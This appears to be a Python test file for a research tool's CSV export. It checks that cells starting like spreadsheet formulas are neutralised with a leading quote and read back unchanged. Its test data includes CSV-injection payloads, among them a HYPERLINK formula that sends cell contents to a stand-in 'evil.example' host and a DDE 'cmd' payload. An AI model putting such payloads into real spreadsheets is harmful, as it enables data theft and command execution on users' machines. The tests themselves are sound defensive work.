"""CSV cells a spreadsheet would run as formulas are neutralised in every CSV fazhi writes, and
read back exactly; numbers stay numbers."""
import csv
from decimal import Decimal

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fazhi.research import export
from fazhi.research.csvcells import FORMULA_STARTS, neutralise, restore

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点此核对")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_formula_is_written_as_text(cell):
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'a中1 \"")), max_size=8) | st.text(max_size=20))
def test_every_text_goes_round_unchanged_and_nothing_written_starts_a_formula(cell):
    written = neutralise(cell)
    assert not written.startswith(FORMULA_STARTS)
    assert restore(written) == cell


def test_only_the_quote_export_adds_is_taken_off():
    assert restore("'abc") == "'abc"      # a quote export never adds: the text's own
    assert restore("''abc") == "'abc"     # export of 'abc
    assert neutralise("含上年结转-2件") == "含上年结转-2件"


@pytest.mark.parametrize("number", [-3.5, -2, Decimal("-1.25"), 0, None])
def test_numbers_are_not_text(number):
    assert neutralise(number) is number


def test_panel_csv_neutralises_text_and_keeps_numbers(tmp_path, monkeypatch):
    frame = pd.DataFrame({"jurisdiction_name": ["=cmd|' /C calc'!A0", "重庆市武隆区"],
                          "evidence": ["@SUM(1)", "-含上年结转"],
                          "value": [Decimal("-3.5"), Decimal("98.76")], "report_year": [2023, 2023]})
    monkeypatch.setattr(export, "read_view", lambda conn, view: frame.copy())
    out = tmp_path / "panel.csv"
    assert export.export_panel(None, "csv", out) == 2
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["jurisdiction_name"] for r in rows] == ["'=cmd|' /C calc'!A0", "重庆市武隆区"]
    assert [r["evidence"] for r in rows] == ["'@SUM(1)", "'-含上年结转"]
    assert [r["value"] for r in rows] == ["-3.5", "98.76"]   # a number, as Excel reads it
    assert pd.read_csv(out, encoding="utf-8-sig")["value"].tolist() == [-3.5, 98.76]
